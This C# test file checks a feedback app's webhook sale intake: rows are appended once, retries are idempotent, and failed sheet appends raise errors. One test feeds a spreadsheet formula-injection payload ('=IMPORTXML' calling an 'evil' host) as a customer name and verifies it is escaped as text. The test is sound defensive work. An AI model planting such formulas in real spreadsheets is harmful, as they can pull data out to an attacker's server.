using FeedbackCollector.Core.CustomerList;
using FeedbackCollector.Testing.Webhooks;
using FeedbackCollector.Web;

namespace FeedbackCollector.App.Tests.CustomerList;

/// <summary>Issue 12 point 1 in the one use case: a webhook sale is planned and lands in the customer list as a row.</summary>
public sealed class SaleIntakeTests : IDisposable
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;
    private readonly AppWorld _w = new();

    private WebApp Web() => _w.App.Web(new WebAppOptions(null, SignedDeliveries.Schemes()));

    [Fact]
    public async Task A_sale_appends_one_row_and_a_retried_delivery_adds_no_second_ask_or_row()
    {
        var sale = SignedDeliveries.Request(SaleThenRefund.Sale("shopify"), _w.Clock.GetUtcNow());

        (await Web().Handle(sale, Ct)).Status.Should().Be(200);
        (await Web().Handle(sale, Ct)).Status.Should().Be(200);

        _w.FakeAsks.All.Should().ContainSingle();
        _w.FakeList.Rows.Should().ContainSingle();
        var planned = await _w.App.CustomerList.RunAsync(_w.FakeList.Csv(), "customer sheet", Ct);
        planned.Should().BeEquivalentTo(new { Planned = 0, AlreadyPlanned = 1 }, "the sale's row carries the sale's source and id, so it is the same ask");
    }

    [Fact]
    public async Task A_sale_whose_row_could_not_be_appended_fails_so_the_sender_retries_and_the_retry_plans_nothing_twice()
    {
        _w.FakeList.FailNext = new HttpRequestException("sheet unreachable");
        var sale = SignedDeliveries.Request(SaleThenRefund.Sale("generic"), _w.Clock.GetUtcNow());

        var first = async () => await Web().Handle(sale, Ct);
        await first.Should().ThrowAsync<HttpRequestException>();
        (await Web().Handle(sale, Ct)).Status.Should().Be(200);

        _w.FakeAsks.All.Should().ContainSingle("the ask was planned before the append failed, and the retry found it");
        _w.FakeList.Rows.Should().ContainSingle();
    }

    [Fact]
    public async Task A_customer_named_like_a_formula_is_written_as_text()
    {
        var body = SaleThenRefund.Sale("generic").Body.Replace("\"Mia\"", "\"=IMPORTXML(\\\"http://evil\\\",\\\"//a\\\")\"", StringComparison.Ordinal);

        (await Web().Handle(SignedDeliveries.Request(new SchemeDelivery("generic", body, new Dictionary<string, string>()), _w.Clock.GetUtcNow()), Ct))
            .Status.Should().Be(200);

        _w.FakeList.Rows.Should().ContainSingle().Which[0].Should().StartWith("'=IMPORTXML");
        CustomerListCells.Unguard(_w.FakeList.Rows[0][0]).Should().StartWith("=IMPORTXML");
    }

    public void Dispose() => _w.Dispose();
}
